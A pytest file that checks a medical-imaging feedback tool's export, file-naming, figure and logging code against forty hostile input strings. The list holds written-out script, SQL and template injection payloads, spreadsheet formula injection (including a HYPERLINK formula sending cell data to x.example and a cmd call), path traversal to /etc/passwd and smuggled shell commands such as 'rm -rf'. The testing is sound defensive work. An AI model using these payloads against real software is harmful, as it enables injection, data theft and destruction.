"""Forty texts that mean harm, wherever a text goes: all kept to the letter, none taken for more."""

import csv
import json
import logging
import re
import subprocess
import sys

import pandas as pd
import plotly.graph_objects as go
import plotly.io as pio
import pytest

from afloc.errors import DataError
from afloc.feedback.analysis.data_frames import overview
from afloc.feedback.analysis.figures import overview_figure
from afloc.feedback.export import export, import_rows
from afloc.feedback.store.events import Event
from afloc.feedback.store.store import Store
from afloc.text import clean_text, figure_label, file_name, one_line, safe_cell, unsafe_cell

PAYLOADS = [
    # HTML, JS and templates
    "<script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    '"><img src=x onerror=window.hacked=1>',
    "<svg/onload=window.hacked=1>",
    "<b>bold</b> and <a href='javascript:window.hacked=1'>link</a>",
    "&lt;b&gt; &amp;amp; &#60;",
    "{{constructor.constructor('window.hacked=1')()}}",
    "${window.hacked=1}",
    "`${window.hacked=1}`",
    "{% raw %}{{ 7*7 }}",
    "#{7*7} <%= 7*7 %>",
    "%7B%7B7*7%7D%7D %s %n {0} {0.__class__}",
    "$\\unicode{x}$ \\href{javascript:window.hacked=1}{x}",
    "]]><!-- -->",
    # SQL and JSON
    "'); DROP TABLE events; --",
    "x' OR '1'='1",
    "1; COPY events TO '/tmp/x'",
    '{"__proto__": {"hacked": 1}}',
    '\\", "hacked": "1',
    # spreadsheets
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "'=1+1",
    "＝1+1",
    'a","=1+1\n=1+1,"b',
    # files and shells
    "../../etc/passwd",
    "C:\\Windows\\con",
    "$(touch hacked) `touch hacked`; rm -rf x | y > z",
    # characters
    "\x00 NUL \x1b[31mred\x1b[0m \x07",
    "\u202eevil\u202c \u2066isolated\u2069",
    "half \ud83e of a pair",
    "line\u2028two\r\nthree\x85four",
    "胸腔积液 انصباب جنبي плевральный выпот 👩🏽‍⚕️ e\u0301 \u200d",
    "a" * 5000,
]
FORMULA = re.compile(r"\s*[=+\-@＝]|[\t\r\n]")
CONTROL = re.compile("[\0-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def test_forty():
    assert len(PAYLOADS) == 40


def test_clean_text_keeps_every_script_and_no_control():
    for text in PAYLOADS:
        clean = clean_text(text)
        assert not CONTROL.search(clean) and clean_text(clean) == clean
        clean.encode()
        if not CONTROL.search(text):
            assert clean == text
    assert clean_text("a\r\nb\rc\u2028d\te") == "a\nb\nc\nd\te"
    assert clean_text("\u202eevil\u202c") == "evil" and clean_text("a\0b\ud800") == "a b\ufffd"


def test_cells():
    for text in PAYLOADS:
        assert unsafe_cell(safe_cell(text)) == text
        assert not FORMULA.match(safe_cell(text))
    assert safe_cell("left effusion") == "left effusion" and safe_cell(-1.5) == -1.5


def test_names_of_files():
    for text in PAYLOADS:
        name = file_name(text)
        assert (
            re.fullmatch(r"[\w.-]{1,81}", name) and not name.startswith((".", "-")) and ".." not in name[:2]
        )
    assert file_name("con") != "con" and file_name("..") == file_name("") == "unnamed"
    assert file_name("resnet50, precise") == "resnet50-precise" and file_name("胸腔积液") == "胸腔积液"


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    with Store(tmp_path_factory.mktemp("payloads")) as store:
        for text in PAYLOADS:
            region = {"box": [1, 2, 3, 4]}
            about = {"image_digest": "0" * 64, "image_width": 50, "image_height": 60, "session": text}
            answers = {"agreement": "yes", "remark": text}
            said = {"description": text, "comment": text, "reader": text, "answers": answers}
            store.record(Event("feedback", regions=[region], **said, **about))
        yield store


@pytest.mark.parametrize("ending", ["csv", "parquet"])
def test_tables_hold_them_to_the_letter(store, tmp_path, ending):
    path, *_ = export(store, tmp_path / f"out.{ending}")
    with Store(tmp_path / "again") as again:
        assert import_rows(again, path) == len(PAYLOADS)
        rows = again.rows("SELECT * FROM events ORDER BY seq")
    expected = [clean_text(text) for text in PAYLOADS]
    for column in ("description", "comment", "reader", "session"):
        assert [row[column] for row in rows] == expected
    assert [row["answers"]["remark"] for row in rows] == expected
    if ending == "csv":
        with open(path, encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.DictReader(file) for cell in row.values()]
        assert not [cell for cell in cells if FORMULA.match(cell)]


def test_coco_names_them_to_the_letter(store, tmp_path):
    export(store, tmp_path / "out.json")
    coco = json.loads((tmp_path / "out.json").read_text(encoding="ascii"))
    assert [each["name"] for each in coco["categories"]] == list(dict.fromkeys(map(clean_text, PAYLOADS)))


def test_a_study_in_an_export_cannot_name_a_file_elsewhere(tmp_path, filled_definition):
    out = tmp_path / "out.csv"
    with Store(tmp_path / "first") as store:
        export(store, out)
    for id in ("../../escaped", "x/y", 'q"; DROP TABLE events; --'):
        (tmp_path / "out.x.study.json").write_text(json.dumps(filled_definition | {"id": id}))
        with Store(tmp_path / "second") as store, pytest.raises(DataError):
            import_rows(store, out)


@pytest.fixture
def filled_definition():
    from afloc.feedback.studies.study_file import FOLDER, read_study

    study = read_study(FOLDER / "demo.toml")
    return {"version": study.version, **study.definition()}


def test_figures_show_them_to_the_letter(store, tmp_path):
    """Plotly decodes what is left of a label after its tags: no tag may be left, and no entity but ours."""
    table = pd.concat([overview(store).assign(answer=text) for text in map(clean_text, PAYLOADS)])
    figure = overview_figure(table)
    labels = [bar.name for bar in figure.data] + [label for bar in figure.data for label in bar.y]
    assert figure.layout.yaxis.type == "category" and len(labels) > 40
    for label in labels:
        assert not re.search(r"[<>]|&(?!(amp|lt|gt);)", label)
    for text in PAYLOADS:
        unescaped = figure_label(text).replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
        assert unescaped == one_line(text, 200)
    page = pio.to_html(figure, include_plotlyjs=False)
    assert page.count("<script") == page.count("</script>") and "<img" not in page and "<svg" not in page


def test_on_a_terminal_and_in_a_log_each_is_one_plain_line(caplog):
    log = logging.getLogger("afloc.test")
    for text in PAYLOADS:
        line = one_line(text)
        assert len(line) <= 300 and line.isprintable() or "\u200d" in line
        log.warning("%s", line)
    assert not CONTROL.search("".join(record.message for record in caplog.records))


def test_the_command_line_names_a_file_on_one_plain_line(tmp_path):
    name = str(tmp_path / "film\x1b[2J\nforged line\u202e.png")
    command = [sys.executable, "-m", "afloc", "locate", name, "effusion"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert done.returncode == 2 and done.stderr.count("\n") == 1
    assert not CONTROL.search(done.stderr.rstrip("\n")) and "Traceback" not in done.stderr


def test_a_label_passes_the_door(tmp_path):
    from afloc.evaluation.datasets.rows import check_label

    assert check_label("Pleural\u202e effusion\0", "here") == "Pleural effusion "
    for label in ("x" * 201, "...", 7, "\ud800"):
        with pytest.raises(DataError, match=r"^here: .{1,90}\.$"):
            check_label(label, "here")


def test_a_plotly_figure_of_labels_that_look_like_numbers_keeps_their_order():
    table = pd.DataFrame({"description": ["2", "10", "2020-01-01"], "answer": "yes", "count": [3, 2, 1]})
    figure = overview_figure(table)
    assert isinstance(figure, go.Figure) and figure.layout.yaxis.type == "category"
    assert figure.data[0].y == ("2020-01-01", "10", "2")
